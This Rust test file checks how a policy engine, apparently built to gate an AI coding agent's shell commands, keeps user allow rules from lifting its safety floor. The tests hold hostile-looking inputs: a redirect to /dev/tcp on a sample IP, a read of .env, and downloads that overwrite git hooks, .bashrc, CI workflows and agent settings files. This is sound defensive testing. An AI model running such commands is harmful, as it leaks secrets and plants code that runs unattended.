//! What a policy lifts, and what it does not.
#![allow(clippy::expect_used, clippy::panic, reason = "a test that cannot go on says so")]

use mastiff_core::call::{Session, ShellCall, Tool, ToolCall};
use mastiff_core::json::Json;
use mastiff_core::policy::Layer;
use mastiff_core::world::fake::Fake;
use mastiff_core::{Policy, decide};

fn policy(text: &str) -> Policy {
    let layer = Layer::parse("user.toml", &format!("version = 1\n{text}")).expect(text);
    Policy::layered(None, Some(layer), None).expect(text)
}

fn verdict(policy: &Policy, command: &str) -> String {
    let machine =
        Fake::new().file("/repo/.git/HEAD", "").file("/repo/src/a", "").file("/home/user/.bashrc", "");
    let session = Session {
        roots: vec!["/repo".into()],
        home: "/home/user".into(),
        env: vec![("PATH".into(), "/usr/bin".into()), ("HOME".into(), "/home/user".into())],
        ..Session::default()
    };
    let tool = Tool::Shell(ShellCall { command: command.into(), ..ShellCall::default() });
    let call = ToolCall {
        name: "Bash".into(),
        tool,
        cwd: "/repo".into(),
        mode: None,
        id: None,
        agent: None,
        input: Json::Null,
    };
    let verdict = decide(&call, &session, policy, &machine).verdict;
    format!("{} {}", verdict.decision().word(), verdict.rule())
}

#[track_caller]
fn check(policy_text: &str, rows: &[(&str, &str)]) {
    let policy = policy(policy_text);
    let wrong: Vec<String> = rows
        .iter()
        .filter_map(|(command, expected)| {
            let got = verdict(&policy, command);
            (got != *expected).then(|| format!("`{command}`: {expected} expected, got {got}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const DEPLOY: &str = "[[rule]]\nname = \"mine\"\ndecision = \"allow\"\nprogram = \"zdeploy\"\nargs = [\"show\"]\noperands = true\n";

#[test]
fn an_allow_lifts_what_it_speaks_of() {
    check("", &[("zdeploy show x", "ask unknown_command")]);
    check(
        DEPLOY,
        &[
            ("zdeploy show x", "allow mine"),
            ("zdeploy show x 2>&1", "allow mine"),
            ("zdeploy show x > out.txt", "allow write_scope+mine"),
            ("zdeploy run x", "ask unknown_command"),
            ("zdeploy show $X", "ask unknown_command"),
            ("zdeploy show x; zother", "ask unknown_command"),
        ],
    );
}

#[test]
fn an_allow_for_a_subcommand_is_none_for_its_sharp_edge() {
    let push = "[[rule]]\nname = \"mine\"\ndecision = \"allow\"\nprogram = \"git\"\nargs = [\"push\"]\n";
    check(
        &format!("{push}operands = true\n"),
        &[
            ("git push origin main", "allow mine"),
            ("git push origin a:main", "allow mine"),
            ("git push origin +main", "ask force_push"),
            ("git push origin :main", "ask force_push"),
            ("git push --force origin main", "ask force_push"),
        ],
    );
    check(
        &format!("{push}operands = true\nflags = [\"--force\"]\n"),
        &[
            ("git push --force origin main", "allow mine"),
            ("git push --force origin :main", "ask force_push"),
        ],
    );
    check("[rules]\nforce_push = \"allow\"\n", &[("git push origin +main", "allow force_push")]);
}

#[test]
fn an_allow_does_not_open_the_floor_or_the_scope() {
    check(
        DEPLOY,
        &[
            ("zdeploy show x > .git/config", "ask safety_floor"),
            ("zdeploy show x > /srv/x", "ask write_outside_repo"),
            ("zdeploy show /srv/x > /srv/x", "ask write_outside_repo"),
            ("zdeploy show x > /dev/tcp/203.0.113.1/80", "ask network"),
            ("zdeploy show x < .env", "ask read_secret"),
        ],
    );
}

#[test]
fn a_key_changes_a_rule() {
    check("[rules]\nbackground = \"allow\"\n", &[("cat src/a &", "allow background+read_only_command")]);
    check(
        "[rules]\nsafety_floor = \"deny\"\n",
        &[("echo > .git/config", "deny safety_floor"), ("echo > b", "allow write_scope+shell_builtin")],
    );
    check("[rules]\nread_only_command = \"ask\"\n", &[("cat src/a", "ask read_only_command")]);
    check(
        "write_scope = [\"src/**\"]\n",
        &[("echo > src/b", "allow write_scope+shell_builtin"), ("echo > b", "ask out_of_scope")],
    );
    check(
        "scratch = [\"/srv/s\"]\n",
        &[
            ("echo > /srv/s/b", "allow scratch+shell_builtin"),
            ("echo > /srv/s/.git/config", "ask safety_floor"),
        ],
    );
    check(
        "[floor]\nextra = [\"src/a\"]\n",
        &[("echo > src/a", "ask safety_floor"), ("echo > src/b", "allow write_scope+shell_builtin")],
    );
    check(
        "read_scope = []\n",
        &[("cat /usr/x", "ask read_outside_repo"), ("cat src/a", "allow read_only_command")],
    );
}

#[test]
fn a_stricter_rule_adds_a_reason() {
    let rule = "[[rule]]\nname = \"never\"\ndecision = \"deny\"\nprogram = \"cat\"\nreason = \"not here\"\n";
    check(
        rule,
        &[
            ("cat src/a", "deny never"),
            ("head src/a; cat .env", "deny never"),
            ("head src/a", "allow read_only_command"),
            ("command cat src/a", "deny never"),
            ("builtin cat src/a", "deny never"),
            ("exec cat src/a", "deny never"),
            ("command command cat src/a", "deny never"),
            ("env cat src/a", "deny never"),
            ("/usr/bin/cat src/a", "deny never"),
        ],
    );
}

#[test]
fn text_that_misleads_stops() {
    check(
        "[rules]\nread_only_command = \"allow\"\n",
        &[
            ("ls \u{2028}rm", "ask misleading_text"),
            ("echo \u{202e}x", "ask misleading_text"),
            ("echo '⚠\u{fe0f} ü'", "allow shell_builtin"),
        ],
    );
}

/// Who permits what a program is for does not permit it everywhere.
#[test]
fn what_stops_whatever_its_arguments_still_names_the_floor() {
    check(
        "[rules]\nnetwork = \"allow\"\ngit_checkout = \"allow\"\ngit_restore = \"allow\"\nmachine = \"allow\"\ndelete = \"allow\"\n",
        &[
            ("curl -o x https://x.example", "allow network"),
            ("curl -o .claude/settings.json https://x.example", "ask safety_floor"),
            ("curl -o.git/hooks/pre-commit https://x.example", "ask safety_floor"),
            ("curl --output=/home/user/.bashrc https://x.example", "ask safety_floor"),
            ("curl -O --output-dir .github/workflows https://x.example/ci.yml", "ask safety_floor"),
            ("cd .claude && curl -o settings.json https://x.example", "ask safety_floor"),
            ("wget -P ~/.codex https://x.example/hooks.json", "ask safety_floor"),
            ("scp host:a ~/.gemini/settings.json", "ask safety_floor"),
            ("rsync -a --exclude .git src host:dir", "allow network"),
            ("rsync -a --exclude=.claude src host:dir", "allow network"),
            ("ssh host 'cat ~/.profile'", "allow network"),
            ("git checkout -- src/a", "allow git_checkout"),
            ("git checkout main -- .claude/settings.json", "ask safety_floor"),
            ("git restore --source=x .cursor", "ask safety_floor"),
            ("chown root src/a", "allow machine"),
            ("chown root ~/.claude/settings.json", "ask safety_floor"),
            ("shred src/a", "allow delete"),
            ("shred .mastiff.toml", "ask safety_floor"),
        ],
    );
    let rule = "[[rule]]\nname = \"mine\"\ndecision = \"allow\"\nprogram = \"curl\"\nflags = [\"*\"]\noperands = true\n";
    check(
        rule,
        &[
            ("curl -o x https://x.example", "allow mine"),
            ("curl -o .claude/settings.json https://x.example", "ask safety_floor"),
        ],
    );
}
